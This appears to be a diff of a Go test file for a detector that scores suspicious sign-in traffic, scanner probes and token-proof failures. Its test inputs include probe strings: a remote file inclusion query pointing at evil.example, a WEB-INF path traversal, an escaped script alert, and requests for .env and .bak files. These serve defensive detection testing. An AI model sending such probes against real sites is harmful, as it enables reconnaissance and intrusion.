@@ -271,16 +271,32 @@ func TestSignals(t *testing.T) {
 		"every fifth fails in an office": {evidence.FailuresByAddress, true, many(51, time.Second, func(i int) *event.RequestEvent {
 			return signIn([]string{event.AuthFailure, event.AuthSuccess, event.AuthSuccess, event.AuthSuccess, event.AuthSuccess}[i%5], fmt.Sprint(i))
 		}), 0, 2, false},
-		"failures that took place long ago": {evidence.FailuresByAddress, true, append(many(12, time.Second, func(i int) *event.RequestEvent { return signIn(event.AuthFailure, fmt.Sprint(i)) }), step{5 * time.Hour, signIn(event.AuthFailure, "z")}), 1, 2, false},
-		"ten refused posts to a sign-in":    {evidence.LoginRate, true, many(10, time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 8, 20, false},
-		"three refused posts to a sign-in":  {evidence.LoginRate, true, many(3, time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 0, 2, false},
+		"failures that took place long ago":  {evidence.FailuresByAddress, true, append(many(12, time.Second, func(i int) *event.RequestEvent { return signIn(event.AuthFailure, fmt.Sprint(i)) }), step{5 * time.Hour, signIn(event.AuthFailure, "z")}), 1, 2, false},
+		"ten refused posts to a sign-in":     {evidence.LoginRate, true, many(10, time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 8, 20, false},
+		"three refused posts to a sign-in":   {evidence.LoginRate, true, many(3, 10*time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 0, 2, false},
+		"three refused posts within seconds": {evidence.LoginRate, true, many(3, time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 4, 5, false},
+		"seven posts of one client within seconds, answered 200": {evidence.LoginRate, true, many(7, 500*time.Millisecond, func(int) *event.RequestEvent {
+			return with(signIn("", ""), func(e *event.RequestEvent) { e.Status = 200 })
+		}), 9, 12, false},
+		"a sign-in in three steps": {evidence.LoginRate, true, many(3, 2*time.Second, func(int) *event.RequestEvent {
+			return with(signIn("", ""), func(e *event.RequestEvent) { e.Status = 200 })
+		}), 0, 1, false},
+		"phones behind one address that fetch their tokens": {evidence.LoginRate, true, many(30, time.Second, func(int) *event.RequestEvent {
+			return with(signIn("", ""), func(e *event.RequestEvent) { e.Path, e.Status = "/oauth/token", 200 })
+		}), 0, 1, false},
+		"four accounts fail, six seconds apart": {evidence.FailuresByAddress, true, many(4, 6*time.Second, func(i int) *event.RequestEvent { return signIn(event.AuthFailure, fmt.Sprint(i)) }), 8, 9, false},
+		"four accounts fail, a minute apart":    {evidence.FailuresByAddress, true, many(4, time.Minute, func(i int) *event.RequestEvent { return signIn(event.AuthFailure, fmt.Sprint(i)) }), 5, 6.5, false},
+		"five failures of nobody knows whom":    {evidence.FailuresByAddress, true, many(5, time.Second, func(int) *event.RequestEvent { return signIn(event.AuthFailure, "") }), 9, 10, false},
+		"a server's inside":                     {evidence.ScannerPaths, true, []step{{0, path("/s/x/_/;/WEB-INF/web.xml", 404)}}, 9, 9, false},
+		"a copy that an editor left behind":     {evidence.ScannerPaths, true, []step{{0, path("/index.php.bak", 404)}}, 3, 3, false},
+		"a script that was escaped":             {evidence.ScannerPaths, true, []step{{0, asked("name=%26lt;script%26gt;alert(1)")}}, 9, 9, false},
 		"a file elsewhere is included": {evidence.ScannerPaths, true, []step{{0, with(path("/a.php", 404), func(e *event.RequestEvent) {
 			e.Attributes = map[string]string{event.AttributeQuery: "page=1&inc=http://evil.example/x.txt??"}
 		})}}, 3, 3, false},
 		"a link elsewhere is followed": {evidence.ScannerPaths, false, []step{{0, with(path("/go", 404), func(e *event.RequestEvent) {
 			e.Attributes = map[string]string{event.AttributeQuery: "to=http://friend.example/x?y=1"}
 		})}}, 0, 0, false},
-		"seven posts to an account that nobody knows": {evidence.LoginRate, true, many(7, time.Second, func(int) *event.RequestEvent {
+		"seven posts to an account that nobody knows": {evidence.LoginRate, true, many(7, 6*time.Second, func(int) *event.RequestEvent {
 			return with(signIn("", ""), func(e *event.RequestEvent) { e.Status = 404 })
 		}), 6, 9, false},
 		"an environment file":                 {evidence.ScannerPaths, true, []step{{0, path("/app/.env", 404)}}, 3, 3, false},
@@ -300,6 +316,11 @@ func TestSignals(t *testing.T) {
 		"one token, two keys":                 {evidence.TwoKeys, false, []step{{0, bound(event.BindingDPoP, "a")}, {0, bound(event.BindingDPoP, "b")}}, 20, 20, false},
 		"one token, one key":                  {evidence.TwoKeys, false, []step{{0, bound(event.BindingDPoP, "a")}, {0, bound(event.BindingDPoP, "a")}}, 0, 0, false},
 		"a bound token without its proof":     {evidence.LostProof, false, []step{{0, bound(event.BindingMTLS, "a")}, {0, bound(event.BindingNone, "")}}, 20, 20, false},
+		"a bound token that was refused":      {evidence.LostProof, false, []step{{0, refusedFor(event.ReasonTokenBound)}}, 20, 20, false},
+		"a proof by another key":              {evidence.LostProof, false, []step{{0, refusedFor(event.ReasonProofKey)}}, 20, 20, false},
+		"a forged proof":                      {evidence.LostProof, false, []step{{0, refusedFor(event.ReasonProofForged)}}, 20, 20, false},
+		"a replayed proof":                    {evidence.LostProof, false, []step{{0, refusedFor(event.ReasonProofReplayed)}}, 20, 20, false},
+		"a proof that was sent twice":         {evidence.LostProof, false, []step{{0, refusedFor("dpop_repeated")}}, 0, 0, false},
 		"a token that never had a proof":      {evidence.LostProof, false, []step{{0, bound(event.BindingNone, "")}, {0, bound(event.BindingNone, "")}}, 0, 0, false},
 	}
 	for _, more := range []map[string]signalCase{credentialCases(), identityCases(), behaviourCases(), orderCases()} {
